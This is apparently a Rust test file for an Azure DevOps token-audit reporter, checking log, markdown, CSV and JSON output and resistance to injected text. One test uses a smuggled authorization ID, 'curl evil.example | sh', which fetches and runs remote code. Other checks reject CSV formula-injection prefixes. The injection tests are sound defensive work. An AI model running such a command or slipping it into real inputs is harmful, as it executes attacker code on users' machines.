use proptest::prelude::*;

use super::super::LogLine;
use super::super::json;
use super::super::page::BYTES;
use super::super::tests::assert_same_page;
use super::{csv, log, markdown};
use crate::audit::tests::{acme, by, event, log as read, run, settings, tally, with_data};
use crate::audit::{AuditReport, Place};
use crate::failure::{Failure, FailureKind};
use crate::organization::Organization;
use crate::pat::AuthorizationId;
use crate::reading::Unreadable;
use crate::text::tests::{HOSTILE, assert_harmless_line, hostile};

const LEAKED: &str = "0b9c4cf5-1d5b-4b6f-9f8e-3f6f9c6f1a2b";
const REVOKED: &str = "1c8d5de6-2e6c-4c70-8a9f-4a70ad7a2b3c";

/// One of everything, in two organizations, one of which could not be read to its end.
fn bad_day() -> AuditReport {
    let labs = Organization::parse("acme-labs").unwrap();
    let mut tally = tally(&settings());
    let service = |event| by(event, None, Some("Azure DevOps Service"), None);
    let mut leak = service(with_data(
        event(1, "Token.PatPublicDiscoveryEvent"),
        &[
            ("DisplayName", "ci-deploy"),
            ("AuthorizationId", LEAKED),
            ("OwnerName", "ann@acme.example"),
        ],
    ));
    leak.ip_address = None;
    leak.user_agent = None;
    let found = |number| {
        with_data(
            service(event(number, "Token.PatPublicDiscoveryEvent")),
            &[("DisplayName", "old-sync"), ("AuthorizationId", REVOKED)],
        )
    };
    let ended = with_data(
        service(event(2, "Token.PatSystemRevokeEvent")),
        &[
            ("DisplayName", "old-sync"),
            ("AuthorizationId", REVOKED),
            ("OwnerName", "bob@acme.example"),
        ],
    );
    let full = with_data(
        event(4, "Token.PatCreateEvent"),
        &[
            ("DisplayName", "everything"),
            ("Scopes", "app_token"),
            ("IsGlobal", "true"),
            ("ValidTo", "2027-11-20T08:00:00Z"),
        ],
    );
    let mut narrow = event(5, "Token.PatCreateEvent");
    narrow.details = Some("Personal Access Token \"nuget-feed-sync\" was created.".into());
    narrow.ip_address = Some("198.51.100.4".into());
    narrow.user_agent = Some("VSTS Agent".into());
    let mut nameless = found(7);
    nameless.data.clear();
    let mut key = event(8, "Token.SshCreateEvent");
    key.details = Some("SSH Key \"laptop\" was created.".into());
    tally.take(&acme(), vec![leak, ended, found(3), full, narrow]);
    tally.take(&labs, vec![nameless, key, event(9, "Token.PatExpiredEvent")]);
    let mut broken = read(&labs);
    broken.unreadable = vec![Unreadable {
        what: "the audit log of acme-labs, from page 2 on".into(),
        failure: Failure::new(
            FailureKind::Service,
            "Azure DevOps failed to read the audit log of acme-labs.",
        )
        .with_why("it answered 503 each time")
        .with_way_out("run it again later")
        .with_service_words("HTTP 503"),
    }];
    tally.finish(&[read(&acme()), broken], run())
}

fn quiet_day() -> AuditReport {
    let mut tally = tally(&settings());
    tally.take(&acme(), vec![event(1, "Git.RepositoryCreated")]);
    tally.finish(&[read(&acme())], run())
}

fn printed(report: &AuditReport) -> String {
    let mut text = String::new();
    for line in log(report) {
        match line {
            LogLine::Text(line) => text.push_str(&line),
            LogLine::GroupStart(title) => text.extend(["##[group]", &title]),
            LogLine::GroupEnd => text.push_str("##[endgroup]"),
        }
        text.push('\n');
    }
    text.push_str(&report.sentence());
    text
}

#[test]
fn log_of_a_bad_day() {
    insta::assert_snapshot!(printed(&bad_day()));
}

#[test]
fn log_of_a_quiet_day() {
    insta::assert_snapshot!(printed(&quiet_day()));
}

#[test]
fn summary_of_a_bad_day() {
    insta::assert_snapshot!(markdown(&bad_day()));
}

#[test]
fn summary_of_a_quiet_day() {
    insta::assert_snapshot!(markdown(&quiet_day()));
}

#[test]
fn spreadsheet_of_a_bad_day() {
    insta::assert_snapshot!(csv(&bad_day()));
}

#[test]
fn json_of_a_bad_day() {
    insta::assert_snapshot!(json(&bad_day()));
}

#[test]
fn a_long_log_is_cut_and_the_rest_counted_and_leaks_are_never_folded() {
    let mut tally = tally(&settings());
    let leaks = (0..30).map(|number| event(number, "Token.PatPublicDiscoveryEvent"));
    let others = (30..500).map(|number| {
        let event = event(number, "Token.PatCreateEvent");
        by(event, Some(&format!("user{number}@acme.example")), None, None)
    });
    tally.take(&acme(), leaks.chain(others).collect());
    let report = tally.finish(&[read(&acme())], run());
    let text = printed(&report);
    for more in [10, 451, 450] {
        assert!(
            text.contains(&format!("… and {more} more, in the report")),
            "{more}: {text}"
        );
    }
    assert!(text.find("LEAKED: 30 times") < text.find("##[group]"), "{text}");
    assert!(text.lines().count() < 160, "{text}");
    assert_eq!(csv(&report).lines().count(), 501);
    assert_eq!(
        markdown(&report).matches("`user").count(),
        49 + 70,
        "50 actors, 100 events"
    );
}

#[test]
fn a_summary_is_never_larger_than_it_may_be() {
    let mut report = bad_day();
    let wide = "漢\u{301}\u{302}\u{303}\u{304}".repeat(400);
    let mut event = report.events[0].clone();
    event.what.clone_from(&wide);
    event.actor.upn = Some(wide.clone());
    event.ip_address = Some(wide);
    event.full_scope = true;
    report.events = vec![event; 300];
    let page = markdown(&report);
    assert!(
        page.len() <= BYTES && page.ends_with("\n… and more, in the report\n"),
        "{}",
        page.len()
    );
}

#[test]
fn a_command_to_copy_holds_an_id_and_nothing_else_of_a_stranger() {
    for id in ["x\"; curl evil.example | sh; \"", "--all", "0b9c4cf5", ""] {
        let leak = with_data(
            event(1, "Token.PatPublicDiscoveryEvent"),
            &[("AuthorizationId", id)],
        );
        let mut tally = tally(&settings());
        tally.take(&acme(), vec![leak]);
        let text = printed(&tally.finish(&[read(&acme())], run()));
        assert!(!text.contains("--authorization-ids"), "{text}");
        assert!(text.contains("docs/incident.md says how to find it"), "{text}");
    }
}

/// Puts the text wherever a stranger's can come to stand.
fn poisoned(text: &str) -> AuditReport {
    let mut report = bad_day();
    let some = || Some(text.to_owned());
    report.run.pipeline = some();
    for organization in &mut report.organizations {
        organization.name = text.to_owned();
        organization.signed_in_as = some();
        organization.identity_kind = some();
        organization.sign_in = text.to_owned();
    }
    for event in &mut report.events {
        event.organization = text.to_owned();
        event.action = text.to_owned();
        event.what = text.to_owned();
        event.id = some();
        event.ip_address = some();
        event.user_agent = some();
        event.mechanism = some();
        event.details = some();
        event.actor.upn = some();
        event.actor.name = some();
        event.actor.id = some();
        let mut pat = event.pat.take().unwrap_or_default();
        pat.authorization_id = pat
            .authorization_id
            .map(|id| AuthorizationId::new(format!("{id}{text}")));
        pat.display_name = some();
        pat.owner = some();
        pat.scopes = vec![text.to_owned()];
        event.pat = Some(pat);
    }
    for actor in &mut report.actors {
        actor.actor.upn = some();
        actor.organizations = vec![text.to_owned()];
        let place = Place {
            name: some(),
            events: 2,
        };
        actor.ip_addresses = vec![place.clone(), place.clone()];
        actor.user_agents = vec![place];
    }
    for entry in &mut report.unreadable {
        entry.organization = text.to_owned();
        entry.what = text.to_owned();
        entry.failure = Failure::new(FailureKind::Service, text)
            .with_code(text)
            .with_why(text)
            .with_way_out(text)
            .with_service_words(format!("\"{text}\""));
    }
    report.settings.actions = vec![text.to_owned()];
    report.settings.actors = vec![text.to_owned()];
    report.notes = vec![text.to_owned()];
    report
}

/// Nothing of the text takes effect in any format.
fn assert_powerless(text: &str) {
    let report = poisoned(text);
    for line in log(&report) {
        match line {
            LogLine::Text(line) | LogLine::GroupStart(line) => {
                assert_harmless_line(&line);
                assert!(line.len() < 4_000, "{line}");
            }
            LogLine::GroupEnd => {}
        }
    }

    let page = markdown(&report);
    page.lines().for_each(assert_harmless_line);
    assert_same_page(&page, &markdown(&poisoned("x")), text);

    let json = json(&report);
    json.lines().for_each(assert_harmless_line);
    assert!(!json.contains(['#', '<', '>', '&']));
    assert_eq!(serde_json::from_str::<AuditReport>(&json).unwrap(), report);

    let csv = csv(&report);
    csv.lines().for_each(assert_harmless_line);
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), report.events.len());
    for field in records.iter().flatten() {
        assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?}");
    }
}

#[test]
fn hostile_texts_take_no_effect_in_any_format() {
    for attack in HOSTILE {
        assert_powerless(attack);
    }
    assert_powerless(&"very-long ".repeat(2_000));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_text_takes_effect_in_any_format(text in hostile()) {
        assert_powerless(&text);
    }
}
